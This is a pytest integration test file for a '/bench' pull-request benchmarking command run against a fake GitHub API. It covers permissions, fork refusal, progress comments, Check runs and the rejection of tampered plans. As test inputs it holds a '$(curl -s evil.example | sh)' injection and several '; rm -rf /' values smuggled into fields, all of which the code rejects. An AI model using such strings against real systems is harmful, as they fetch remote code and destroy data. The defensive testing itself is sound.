"""``/bench`` on a pull request, the GitHub side, against the fake GitHub API.

The recorded ``issue_comment`` payloads in tests/events/ (``issue_comment.bench*.json``)
go through ``github bench-start`` (scripts/github/bench_pr.py): who may run it, forks,
help and malformed commands, edits, bots and issues, the pull request's exact head, the
image chosen. ``bench-run``'s reporting is driven here by a stand-in benchmark passed
as a parameter (the engine itself runs in tests/integration/test_bench_replay.py): one
sticky comment edited in place, throttled progress, the Check run, the reactions,
failures and cancellation; ``bench-finish`` closes what a run left open.
"""

from __future__ import annotations

import hashlib
import json
import os
import signal
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from scripts.bench.api import BenchRequest, Progress
from scripts.bench.results import BenchResult, Cost, OverlayResult, Shape, Slo, Step
from scripts.config import GitHubContext, Settings
from scripts.errors import AuthError, ConfigError, DeployError, UsageError
from scripts.github import bench_pr
from scripts.github.bench_pr import BenchPlan, StartOutcome, StartPolicy
from scripts.github.client import GitHubApi
from scripts.github.comments import MARKER
from scripts.github.deployments import DeliveryPayload, DeploymentRecords
from scripts.github.events import CommentEvent, parse_event
from scripts.signals import interrupt_on_terminate
from tests.conftest import REPO_ROOT, CLIResult
from tests.fakes.github_api import FakeGitHub

pytestmark = pytest.mark.integration
TOKEN = "ghs_fake_installation_token"
EVENTS = REPO_ROOT / "tests" / "events"
HEAD = "0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d"
FORK_HEAD = "f0e1d2c3b4a5968778695a4b3c2d1e0f9a8b7c6d"
IMAGE = "europe-west4-docker.pkg.dev/acme/models/digits@sha256:" + "b" * 64
STICKY = MARKER.format(key="bench")


@pytest.fixture
def github() -> Iterator[FakeGitHub]:
    fake = FakeGitHub().start()
    fake.token = TOKEN
    fake.add_pull_request(
        42, head_sha=HEAD, files=["kustomize/overlays/4x-4cpu/kustomization.yaml", "README.md"]
    )
    fake.add_pull_request(43, head_sha=FORK_HEAD, head_repo="stranger/models")
    fake.add_tree(HEAD, REPO_ROOT)  # the pull request's head: this repository's tree
    fake.add_tree(FORK_HEAD, REPO_ROOT)
    fake.collaborators |= {"reader": "read", "maintainer": "maintain"}
    try:
        yield fake
    finally:
        fake.stop()


def settings_for(fake: FakeGitHub, run_id: str = "8001") -> Settings:
    return Settings(
        github_token=TOKEN,
        github_api_url=fake.api_url,
        github=GitHubContext(repository=fake.full_name, run_id=run_id, event_name="issue_comment"),
        github_pacing=0,
    )


def api_for(fake: FakeGitHub) -> GitHubApi:
    return GitHubApi(settings_for(fake), fake.full_name, attempts=2)


def event(name: str = "issue_comment.bench.json", **comment: Any) -> CommentEvent:
    payload = json.loads((EVENTS / name).read_text())
    payload["comment"] |= comment
    parsed = parse_event("issue_comment", payload)
    assert isinstance(parsed, CommentEvent)
    return parsed


def with_comment(fake: FakeGitHub, ev: CommentEvent) -> CommentEvent:
    """The commented comment must exist on the fake for reactions to land on it."""
    made = fake.add_comment(ev.issue.number, ev.comment.body, ev.comment.user.login)
    payload = ev.model_dump()
    payload["comment"]["id"] = made.id
    parsed = parse_event("issue_comment", payload)
    assert isinstance(parsed, CommentEvent)
    return parsed


def delivered(fake: FakeGitHub, version: int = 3) -> None:
    settings = settings_for(fake, run_id="7001")
    records = DeploymentRecords(api_for(fake), settings.github)
    deployment = records.open(
        "production",
        DeliveryPayload("digits", version, "a" * 64, IMAGE, "production", f"acme/models/{version}"),
        ref="main",
        description=f"digits v{version}",
    )
    records.set_state(deployment.id, "success", "promoted")


def start(fake: FakeGitHub, ev: CommentEvent, policy: StartPolicy | None = None) -> StartOutcome:
    with api_for(fake) as api:
        return bench_pr.start(
            api, ev, settings_for(fake).github, policy or StartPolicy(default_model="digits")
        )


def bot_comments(fake: FakeGitHub, issue: int = 42) -> list[str]:
    return [
        c.body
        for c in fake.comments.values()
        if c.issue == issue and c.user == "github-actions[bot]"
    ]


# -- start: who, what, which image -------------------------------------------------------------
def test_a_writer_queues_a_benchmark_of_the_exact_head(github: FakeGitHub) -> None:
    delivered(github)
    ev = with_comment(github, event())
    outcome = start(github, ev)
    assert outcome.run and outcome.status == "queued", outcome.reason
    plan = outcome.plan
    assert plan is not None
    assert (plan.pr, plan.head_sha, plan.fork) == (42, HEAD, False)
    assert plan.model == "digits" and plan.overlays == ("4x-4cpu", "8x-2cpu") and plan.quick
    assert plan.image == IMAGE and plan.source == ""
    assert "last successful delivery to production" in plan.origin
    assert github.reactions(ev.comment.id) == ["eyes"]
    # One sticky comment, queued, with the marker and the run's state.
    (sticky,) = bot_comments(github)
    assert sticky.startswith(STICKY) and "queued" in sticky and HEAD[:12] in sticky
    assert bench_pr.sticky_state(sticky) == ("queued", "8001")
    assert plan.sticky_id in github.comments
    # The Check run is on the pull request's head commit, linked to the run.
    check = github.check_runs[plan.check_run_id]
    assert (check.name, check.head_sha, check.status) == ("bench", HEAD, "queued")
    assert check.details_url == "https://github.com/acme/models/actions/runs/8001"
    # The outputs the workflow reads, and a plan that survives the job boundary.
    outputs = outcome.outputs()
    assert outputs["run"] == "true" and outputs["head-sha"] == HEAD
    assert outputs["overlays"] == "4x-4cpu,8x-2cpu" and outputs["image"] == IMAGE
    assert BenchPlan.from_json(outputs["plan"]) == plan


def test_a_second_command_reuses_the_sticky_comment(github: FakeGitHub) -> None:
    delivered(github)
    first = start(github, with_comment(github, event()))
    second = start(github, with_comment(github, event(body="/bench 8x-2cpu")))
    assert first.plan and second.plan and first.plan.sticky_id == second.plan.sticky_id
    assert len(bot_comments(github)) == 1
    assert second.plan.overlays == ("8x-2cpu",) and not second.plan.quick


@pytest.mark.parametrize("login", ["reader", "someone-else"])
def test_commenters_without_write_access_are_refused(github: FakeGitHub, login: str) -> None:
    user = {"login": login, "id": 99, "type": "User"}
    ev = with_comment(github, event(user=user, author_association="CONTRIBUTOR"))
    outcome = start(github, ev)
    assert not outcome.run and outcome.status == "refused"
    (reply,) = bot_comments(github)
    assert reply.startswith(f"@{login} `/bench` was not run") and "write access" in reply
    assert github.reactions(ev.comment.id) == ["eyes", "confused"]
    assert not github.check_runs
    assert not any(r.startswith("GET /repos/acme/models/pulls") for r in github.api_requests)


def test_maintain_counts_as_write(github: FakeGitHub) -> None:
    delivered(github)
    user = {"login": "maintainer", "id": 98, "type": "User"}
    assert start(github, with_comment(github, event(user=user))).run


def test_forks_are_refused_unless_the_repository_opts_in(github: FakeGitHub) -> None:
    delivered(github)
    ev = with_comment(github, event("issue_comment.bench-fork.json"))
    refused = start(github, ev)
    assert not refused.run and "comes from a fork (stranger/models)" in refused.reason
    (reply,) = bot_comments(github, 43)
    assert "BENCH_ALLOW_FORKS" in reply
    assert not github.check_runs

    allowed = start(github, ev, StartPolicy(allow_forks=True, default_model="digits"))
    assert allowed.run and allowed.plan is not None
    assert allowed.plan.fork and allowed.plan.head_sha == FORK_HEAD
    assert github.check_runs[allowed.plan.check_run_id].head_sha == FORK_HEAD


def test_a_pull_request_whose_fork_was_deleted_counts_as_a_fork(github: FakeGitHub) -> None:
    github.pulls[43].head_repo = None
    outcome = start(github, with_comment(github, event("issue_comment.bench-fork.json")))
    assert not outcome.run and "(deleted)" in outcome.reason


def test_help_replies_with_the_usage_and_runs_nothing(github: FakeGitHub) -> None:
    ev = with_comment(github, event(body="/bench help"))
    outcome = start(github, ev)
    assert (outcome.run, outcome.status) == (False, "help")
    (reply,) = bot_comments(github)
    assert "/bench [OVERLAY …] [--model NAME] [--slo p99=40ms] [--bases A,B] [--quick]" in reply
    assert github.reactions(ev.comment.id) == ["eyes"] and not github.check_runs


@pytest.mark.parametrize(
    ("body", "said"),
    [
        ("/bench $(curl -s evil.example | sh)", "is not a valid overlay name"),
        ("/bench 4x-4cpu --fast", "unknown option `--fast`"),
        ("/bench --slo p99=abc", "is not `p99=<milliseconds>`"),
        ("/bench 4x-4cpu\n/bench production", "one command per comment"),
    ],
)
def test_a_malformed_command_gets_a_reply_saying_what_was_wrong(
    github: FakeGitHub, body: str, said: str
) -> None:
    ev = with_comment(github, event(body=body))
    outcome = start(github, ev)
    assert not outcome.run and said in outcome.reason
    (reply,) = bot_comments(github)
    assert said in reply and "<summary>Usage</summary>" in reply
    assert "evil.example" not in reply  # only the offending token, inside a code span
    assert github.reactions(ev.comment.id) == ["eyes", "confused"]
    assert not github.check_runs


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("issue_comment.bench-edited.json", None),
        ("issue_comment.bench-bot.json", None),
        ("issue_comment.bench-issue.json", None),
        ("issue_comment.bench.json", "LGTM, but /bench it first"),
        ("issue_comment.bench.json", " /bench 4x-4cpu"),
    ],
)
def test_edits_bots_issues_and_other_comments_are_ignored_silently(
    github: FakeGitHub, name: str, body: str | None
) -> None:
    ev = event(name) if body is None else event(name, body=body)
    outcome = start(github, ev)
    assert (outcome.run, outcome.status) == (False, "ignored")
    assert github.api_requests == []  # not even a reaction


def test_unknown_overlays_and_models_are_named_with_what_exists(github: FakeGitHub) -> None:
    delivered(github)
    outcome = start(github, with_comment(github, event(body="/bench 4x-4cpu no-such")))
    assert not outcome.run and "no overlay `no-such`" in outcome.reason
    assert "`8x-2cpu`" in bot_comments(github)[-1]  # what the pull request has
    outcome = start(github, with_comment(github, event(body="/bench 4x-4cpu --model mnist")))
    assert not outcome.run and "no model `mnist`" in outcome.reason
    assert "`resnet50`" in bot_comments(github)[-1]


def test_several_models_and_no_default_asks_which(github: FakeGitHub) -> None:
    outcome = start(github, with_comment(github, event()), StartPolicy())
    assert not outcome.run and "which model" in outcome.reason
    assert "BENCH_MODEL" in bot_comments(github)[-1]


def test_without_overlays_the_ones_the_pull_request_changes_are_benchmarked(
    github: FakeGitHub,
) -> None:
    delivered(github)
    outcome = start(github, with_comment(github, event(body="/bench --quick")))
    assert outcome.plan is not None and outcome.plan.overlays == ("4x-4cpu",)
    github.pulls[42].files = ["README.md"]
    outcome = start(github, with_comment(github, event(body="/bench")))
    assert not outcome.run and "changes none" in outcome.reason


def test_a_closed_pull_request_is_refused(github: FakeGitHub) -> None:
    github.pulls[42].state = "closed"
    outcome = start(github, with_comment(github, event()))
    assert not outcome.run and "is closed" in outcome.reason


def test_never_delivered_the_newest_release_is_built(github: FakeGitHub) -> None:
    archive = b"not really a tarball"
    digest = hashlib.sha256(archive).hexdigest()
    for release_id, version in ((101, 1), (103, 3), (102, 2)):
        release = github.add_release(release_id, f"digits-v{version}")
        github.add_asset(release, f"digits-{version}.tar.gz", archive)
        github.add_asset(
            release,
            f"digits-{version}.tar.gz.sha256",
            f"{digest}  digits-{version}.tar.gz\n".encode(),
        )
    github.add_release(104, "resnet50-v9")
    outcome = start(github, with_comment(github, event()))
    assert outcome.plan is not None and outcome.plan.image == ""
    assert outcome.plan.source == "github://acme/models/releases/103/digits-3.tar.gz"
    assert "newest release" in outcome.plan.origin


def test_bases_benchmark_builds_of_the_newest_release_even_when_one_was_delivered(
    github: FakeGitHub,
) -> None:
    """`--bases` compares builds of one release on each base: the archive, never a digest
    delivered on one base only."""
    delivered(github)  # a delivery exists; with --bases it is not what is measured
    archive = b"not really a tarball"
    digest = hashlib.sha256(archive).hexdigest()
    release = github.add_release(103, "digits-v3")
    github.add_asset(release, "digits-3.tar.gz", archive)
    github.add_asset(release, "digits-3.tar.gz.sha256", f"{digest}  digits-3.tar.gz\n".encode())
    body = "/bench 4x-4cpu --bases stock,c2-cascadelake"
    outcome = start(github, with_comment(github, event(body=body)))
    assert outcome.run, outcome.reason
    plan = outcome.plan
    assert plan is not None and plan.bases == ("stock", "c2-cascadelake")
    assert plan.image == "" and plan.source.endswith("/releases/103/digits-3.tar.gz")
    assert plan.command == "/bench 4x-4cpu --model digits --bases stock,c2-cascadelake"
    assert BenchPlan.from_json(plan.to_json()) == plan
    # A plan whose bases lost their source, or with too many pairs, is refused.
    data = json.loads(plan.to_json())
    for change in (
        {"image": IMAGE, "source": "", "sha256": ""},
        {"bases": ["stock; rm -rf /"]},
        {"overlays": ["a", "b", "c", "d", "e"], "bases": ["x", "y"]},
    ):
        with pytest.raises(UsageError, match="plan"):
            BenchPlan.from_json(json.dumps(data | change))


def test_with_nothing_to_benchmark_the_reply_says_so(github: FakeGitHub) -> None:
    outcome = start(github, with_comment(github, event()))
    assert not outcome.run and "nothing to benchmark for digits" in outcome.reason
    assert "publish a release" in bot_comments(github)[-1]
    assert not github.check_runs


def test_a_token_without_checks_write_is_told_what_to_grant(github: FakeGitHub) -> None:
    delivered(github)
    github.token_permissions["checks"] = "none"
    ev = with_comment(github, event())
    with pytest.raises(AuthError) as caught:
        start(github, ev)
    assert "checks: write" in caught.value.fix
    sticky, reply = bot_comments(github)
    assert bench_pr.sticky_state(sticky) == ("failed", "8001")  # not left "queued"
    assert "could not start" in reply and "checks: write" in reply
    assert github.reactions(ev.comment.id) == ["eyes", "confused"]


def test_bench_start_through_the_cli_writes_the_outputs(
    cli: Callable[..., CLIResult],
    github: FakeGitHub,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    delivered(github)
    ev = with_comment(github, event())
    path = tmp_path / "event.json"
    path.write_text(ev.model_dump_json())
    outputs = tmp_path / "outputs"
    outputs.touch()
    for key, value in {
        "GITHUB_ACTIONS": "true",
        "GITHUB_OUTPUT": str(outputs),
        "GITHUB_EVENT_NAME": "issue_comment",
        "GITHUB_EVENT_PATH": str(path),
        "GITHUB_REPOSITORY": github.full_name,
        "GITHUB_RUN_ID": "8002",
        "GITHUB_TOKEN": TOKEN,
        "GITHUB_API_URL": github.api_url,
        "TF_PIPELINE_GITHUB_PACING": "0",
    }.items():
        monkeypatch.setenv(key, value)
    result = cli(
        "github", "bench-start", "--allow-forks", "false", "--default-model", "digits",
        "--environment", "", "--json",
    )  # fmt: skip
    assert result.exit_code == 0, result.stderr
    assert result.json()["run"] is True
    written = dict(line.split("=", 1) for line in outputs.read_text().splitlines() if "=" in line)
    assert written["run"] == "true" and written["head-sha"] == HEAD
    assert BenchPlan.from_json(written["plan"]).run_url.endswith("/actions/runs/8002")
    # An unrelated comment: run=false, exit 0, nothing said on the pull request.
    path.write_text(event(body="Looks good").model_dump_json())
    outputs.write_text("")
    quiet = cli("github", "bench-start", "--json")
    assert quiet.exit_code == 0 and "run=false" in outputs.read_text()


# -- run: progress, results, failures ------------------------------------------------------------
def _result(overlays: tuple[str, ...], *, capacity: float | None = 120.0) -> BenchResult:
    shape = Shape(4, 4.0, 8.0, "from request", "default", False, "E2")
    step = Step("repeat", 120.0, 119.0, 8.0, 20.0, 31.5, 0.0, 2000, 0.01, "cgroup", False,
                0.3, "pass")  # fmt: skip
    rows = [
        OverlayResult(
            name=o,
            shape=shape,
            steps=[step],
            capacity_rps=capacity,
            at_capacity=step if capacity else None,
            spread=0.04,
            cost=Cost(1.2, 2.78, 3, "4 × …"),
        )
        for o in overlays
    ]
    return BenchResult(
        model="digits", image=IMAGE, target="local", slo=Slo(40.0), quick=True, prices={},
        overlays=rows, winner=overlays[0] if capacity else None, winner_note="cheapest",
        summary=f"{overlays[0]} is cheapest", config={}, config_digest="c" * 64,
        started=0.0, finished=1.0,
    )  # fmt: skip


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def queued(github: FakeGitHub) -> BenchPlan:
    delivered(github)
    outcome = start(github, with_comment(github, event()))
    assert outcome.plan is not None
    return outcome.plan


def render(result: BenchResult, url: str | None, limit: int) -> str:
    return f"### Bench: `{result.model}`\n\n**{result.summary}**\n\nartifacts: {url}\n"[:limit]


def test_progress_edits_one_comment_throttled_then_the_results(
    github: FakeGitHub, tmp_path: Path
) -> None:
    plan = queued(github)
    clock = Clock()
    seen_requests: list[BenchRequest] = []

    def bench(request: BenchRequest, progress: Callable[[Progress], None]) -> BenchResult:
        seen_requests.append(request)
        for overlay in plan.overlays:
            progress(Progress(overlay, "deploying", "rollout"))  # within 15 s: no edit
            clock.now += 5
            progress(Progress(overlay, "measuring", "ramp 40 req/s: pass | p99 9 ms"))
            clock.now += 20
            progress(Progress(overlay, "measuring", "ramp 80 req/s"))  # 25 s later: edit
            progress(Progress(overlay, "done", "capacity 120 req/s"))  # always an edit
        return _result(plan.overlays)

    request = object()  # what prepare() returns is handed to the benchmark as it is
    with api_for(github) as api:
        outcome = bench_pr.run(
            api,
            plan,
            prepare=lambda: request,  # type: ignore[arg-type,return-value]
            run_bench=bench,
            markdown=render,
            summary_line=lambda r: r.summary,
            out=tmp_path / "out",
            interval_s=15.0,
            clock=clock,
        )
    assert seen_requests == [request]
    # 1 "running" + per overlay: the 25-s edit and the done edit; the results once.
    assert outcome.edits == 1 + 2 * len(plan.overlays) + 1
    (sticky,) = bot_comments(github)  # one comment only, edited in place
    assert sticky.startswith(STICKY)
    assert bench_pr.sticky_state(sticky) == ("done", "8001")
    assert "**4x-4cpu is cheapest**" in sticky and "#artifacts" in sticky
    assert github.reactions(plan.comment_id) == ["eyes", "rocket"]
    check = github.check_runs[plan.check_run_id]
    assert [h[0] for h in check.history] == ["queued", "in_progress", "completed"]
    assert (check.conclusion, check.output["title"]) == ("success", "4x-4cpu is cheapest")
    assert (tmp_path / "out" / "github-comment.md").read_text().startswith("### Bench")


def test_the_progress_table_escapes_the_engines_text(github: FakeGitHub) -> None:
    plan = queued(github)
    body = bench_pr.progress_body(
        plan, {"4x-4cpu": ("measuring", "a | b\nc"), "8x-2cpu": ("failed", "x" * 500)}
    )
    assert "| `4x-4cpu` | 📈 measuring | a \\| b c |" in body
    assert max(len(line) for line in body.splitlines()) < 400


def test_a_report_too_big_for_github_is_cut_to_fit(github: FakeGitHub) -> None:
    plan = queued(github)
    huge = "| row |\n" * 40_000

    with api_for(github) as api:
        bench_pr.run(
            api,
            plan,
            prepare=lambda: None,  # type: ignore[arg-type,return-value]
            run_bench=lambda _r, _p: _result(plan.overlays, capacity=None),
            markdown=lambda _r, _u, _limit: huge,  # ignores its limit: GitHub's is kept
            summary_line=lambda _r: "no overlay met the SLO " * 30,
        )
    (sticky,) = bot_comments(github)
    assert len(sticky) <= 65_536 and "Truncated" in sticky
    check = github.check_runs[plan.check_run_id]
    assert check.conclusion == "neutral"  # measured, but nothing met the SLO
    assert len(check.output["summary"].encode()) <= 65_535
    assert len(check.output["title"]) <= 255


def test_a_failed_benchmark_is_reported_and_fails_the_job(github: FakeGitHub) -> None:
    plan = queued(github)

    def broken(_request: BenchRequest, _progress: Callable[[Progress], None]) -> BenchResult:
        raise DeployError(
            "overlay 8x-2cpu never became ready",
            cause="ImagePullBackOff",
            fix="check the image",
        )

    with api_for(github) as api, pytest.raises(DeployError):
        bench_pr.run(
            api,
            plan,
            prepare=lambda: None,  # type: ignore[arg-type,return-value]
            run_bench=broken,
            markdown=render,
            summary_line=lambda r: r.summary,
        )
    (sticky,) = bot_comments(github)
    assert bench_pr.sticky_state(sticky) == ("failed", "8001")
    assert "never became ready" in sticky and "ImagePullBackOff" in sticky
    assert "check the image" in sticky
    assert github.reactions(plan.comment_id) == ["eyes", "-1"]
    check = github.check_runs[plan.check_run_id]
    assert check.conclusion == "failure" and "never became ready" in check.output["title"]
    # finish, after a run that reported: nothing more to do.
    with api_for(github) as api:
        assert bench_pr.finish(api, plan, "failure").action == "reported"


def test_a_cancelled_benchmark_is_reported_as_cancelled(github: FakeGitHub) -> None:
    plan = queued(github)

    def interrupted(_request: BenchRequest, progress: Callable[[Progress], None]) -> BenchResult:
        progress(Progress("4x-4cpu", "measuring", "ramp"))
        raise KeyboardInterrupt("signal 15")

    with api_for(github) as api, pytest.raises(KeyboardInterrupt):
        bench_pr.run(
            api,
            plan,
            prepare=lambda: None,  # type: ignore[arg-type,return-value]
            run_bench=interrupted,
            markdown=render,
            summary_line=lambda r: r.summary,
        )
    assert bench_pr.sticky_state(bot_comments(github)[0]) == ("cancelled", "8001")
    assert github.check_runs[plan.check_run_id].conclusion == "cancelled"
    assert github.reactions(plan.comment_id) == ["eyes", "-1"]


def test_progress_that_github_refuses_never_stops_the_benchmark(github: FakeGitHub) -> None:
    plan = queued(github)
    github.fail("PATCH", r"/issues/comments/\d+", 502, times=3)

    with api_for(github) as api:
        outcome = bench_pr.run(
            api,
            plan,
            prepare=lambda: None,  # type: ignore[arg-type,return-value]
            run_bench=lambda _r, progress: (
                progress(Progress("4x-4cpu", "done", "ok")) or _result(plan.overlays)
            ),
            markdown=render,
            summary_line=lambda r: r.summary,
        )
    assert outcome.conclusion == "success"
    assert bench_pr.sticky_state(bot_comments(github)[0]) == ("done", "8001")


def test_a_deleted_sticky_comment_is_written_again(github: FakeGitHub) -> None:
    plan = queued(github)
    del github.comments[plan.sticky_id]
    with api_for(github) as api:
        new_id = bench_pr.write_sticky(api, plan, bench_pr.cancelled_body(plan))
    assert new_id != plan.sticky_id and len(bot_comments(github)) == 1


# -- finish -------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("job_result", "conclusion", "state"),
    [("cancelled", "cancelled", "cancelled"), ("failure", "failure", "failed")],
)
def test_finish_closes_a_run_that_never_reported(
    github: FakeGitHub, job_result: str, conclusion: str, state: str
) -> None:
    plan = queued(github)
    with api_for(github) as api:
        outcome = bench_pr.finish(api, plan, job_result)
    assert outcome.conclusion == conclusion
    check = github.check_runs[plan.check_run_id]
    assert check.status == "completed" and check.conclusion == conclusion
    (sticky,) = bot_comments(github)
    assert bench_pr.sticky_state(sticky) == (state, "8001")
    assert "actions/runs/8001" in sticky  # the link to the logs
    assert github.reactions(plan.comment_id) == ["eyes", "-1"]


def test_finish_leaves_a_newer_runs_comment_alone(github: FakeGitHub) -> None:
    old = queued(github)
    with api_for(github) as api:
        newer = bench_pr.start(
            api,
            with_comment(github, event(body="/bench 8x-2cpu")),
            settings_for(github, run_id="8009").github,
            StartPolicy(default_model="digits"),
        )
        assert newer.plan is not None and newer.plan.sticky_id == old.sticky_id
        bench_pr.finish(api, old, "cancelled")
    assert bench_pr.sticky_state(bot_comments(github)[0]) == ("queued", "8009")
    assert github.check_runs[old.check_run_id].conclusion == "cancelled"
    assert github.check_runs[newer.plan.check_run_id].status == "queued"


def test_a_plan_that_was_tampered_with_is_refused(github: FakeGitHub) -> None:
    plan = queued(github)
    data = json.loads(plan.to_json())
    for change in (
        {"overlays": ["4x-4cpu; rm -rf /"]},
        {"head_sha": "main"},
        {"image": IMAGE, "source": "github://x"},
        {"overlays": []},
        {"p99_ms": "40; rm -rf /"},
        {"sha256": "not-a-digest"},
    ):
        with pytest.raises(UsageError, match="plan"):
            BenchPlan.from_json(json.dumps(data | change))


def test_the_first_terminate_signal_interrupts_and_later_ones_wait_for_the_teardown() -> None:
    torn_down = []
    with pytest.raises(KeyboardInterrupt), interrupt_on_terminate():
        try:
            os.kill(os.getpid(), signal.SIGTERM)  # handled before the next line runs
            pytest.fail("SIGTERM did not interrupt")
        finally:
            os.kill(os.getpid(), signal.SIGINT)  # during the teardown: ignored
            torn_down.append(True)
    assert torn_down == [True]
    assert signal.getsignal(signal.SIGTERM) == signal.SIG_DFL


def test_a_pull_request_tree_with_a_symbolic_link_is_refused(tmp_path: Path) -> None:
    overlay = tmp_path / "kustomize" / "overlays" / "x"
    overlay.mkdir(parents=True)
    (overlay / "kustomization.yaml").write_text("resources: [creds.json]\n")
    bench_pr.refuse_links(tmp_path / "kustomize")  # plain files: fine
    (overlay / "creds.json").symlink_to(tmp_path / "gha-creds-1234.json")
    with pytest.raises(ConfigError, match=r"symbolic link: overlays/x/creds\.json"):
        bench_pr.refuse_links(tmp_path / "kustomize")
